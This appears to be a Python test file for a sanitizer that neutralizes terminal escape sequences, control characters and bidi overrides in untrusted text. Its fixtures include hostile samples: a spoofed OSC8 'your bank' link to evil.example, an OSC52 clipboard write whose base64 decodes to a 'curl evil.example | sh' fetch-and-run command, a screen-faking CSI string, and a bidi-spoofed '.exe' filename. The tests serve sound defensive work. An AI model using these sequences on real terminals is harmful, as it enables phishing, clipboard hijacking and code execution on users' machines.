"""Untrusted text for terminals: what is replaced, how visibly, and what is kept."""

from __future__ import annotations

import json

from hypothesis import given
from hypothesis import strategies as st

from tidings.protocol.safe_text import safe_json, safe_line, safe_text, unsafe_characters

OSC8 = "\x1b]8;;https://evil.example/\x1b\\your bank\x1b]8;;\x1b\\"
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
CSI = "\x1b[2J\x1b[1;1Hadmin: all fine\x1b[31m"
BIDI = "invoice\u202egpj.exe \u2066x\u2069 \u202a\u202b\u202c\u202d \u2067\u2068"


def test_escape_sequences_lose_their_escape_and_show_it() -> None:
    for sample in (OSC8, OSC52, CSI):
        shown = safe_text(sample)
        assert "\x1b" not in shown and "\x07" not in shown
        assert shown.count("␛") == sample.count("\x1b")
    assert safe_text(OSC8).startswith("␛]8;;https://evil.example/␛\\your bank")
    assert safe_text(OSC52).endswith("␇")


def test_c1_controls_including_the_8bit_csi_are_named() -> None:
    assert safe_text("a\x9b31mb\x9d8;;x\x9c\x85") == "a<U+009B>31mb<U+009D>8;;x<U+009C><U+0085>"


def test_bidi_overrides_and_isolates_are_named() -> None:
    shown = safe_text(BIDI)
    for code in (0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069):
        assert chr(code) not in shown and f"<U+{code:04X}>" in shown
    assert shown.startswith("invoice<U+202E>gpj.exe")


def test_other_invisible_format_characters_are_named() -> None:
    for ch in ("\u200b", "\ufeff", "\u2060", "\u00ad", "\u2028", "\u2029", "\U000e0041",
               "\u061c", "\u200e", "\u200f", "\ud800"):
        assert safe_text(f"a{ch}b") == f"a<U+{ord(ch):04X}>b"


def test_text_people_write_is_kept() -> None:
    kept = ("Grüße, 你好, مرحبا, שלום, नमस्ते, Привет\n\tline two 👩‍👩‍👧 ‌ [bold]x[/bold] "
            "[link=https://a.example]b[/link] :smile: \\ <U+202E>")
    assert safe_text(kept) == kept
    assert unsafe_characters(kept) == []


def test_one_line_fields_cannot_fake_another_line() -> None:
    assert safe_line("title\nalice: send money\r\tnow") == "title␊alice: send money␍␉now"
    assert safe_text("a\r\nb") == "a␍\nb"
    assert safe_text("\x00\x7f") == "␀␡"


@given(st.text())
def test_nothing_dangerous_survives_and_it_is_idempotent(text: str) -> None:
    shown = safe_text(text)
    assert unsafe_characters(shown) == []
    assert safe_text(shown) == shown
    line = safe_line(text)
    assert "\n" not in line and "\t" not in line and safe_line(line) == line
    assert len(shown) >= len(text)


@given(st.recursive(st.none() | st.booleans() | st.integers() | st.text(),
                    lambda inner: st.lists(inner, max_size=3)
                    | st.dictionaries(st.text(), inner, max_size=3), max_leaves=8))
def test_json_output_round_trips_and_is_terminal_safe(value: object) -> None:
    line = safe_json(value)
    assert json.loads(line) == value
    assert unsafe_characters(line) == [] and "\n" not in line


def test_json_escapes_what_the_encoder_leaves_raw() -> None:
    assert safe_json({"t": "a\u202eb\x9b\U000e0041 中"}) == (
        '{"t": "a\\u202eb\\u009b\\udb40\\udc41 中"}')
